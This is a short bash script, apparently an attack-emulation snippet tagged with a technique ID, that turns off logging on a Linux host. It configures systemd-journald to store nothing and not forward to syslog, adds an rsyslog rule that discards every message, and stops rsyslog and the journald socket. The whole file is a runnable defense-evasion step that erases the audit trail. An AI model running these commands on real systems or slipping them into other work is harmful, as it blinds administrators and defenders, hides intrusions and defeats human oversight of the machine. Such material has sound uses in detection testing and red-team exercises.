#!/bin/bash
# T1685: The journal is told to keep nothing.
mkdir -p /etc/systemd/journald.conf.d; printf '[Journal]\nStorage=none\nForwardToSyslog=no\n' >/etc/systemd/journald.conf.d/99.conf; echo '*.* ~' >/etc/rsyslog.d/00.conf; systemctl stop rsyslog systemd-journald.socket
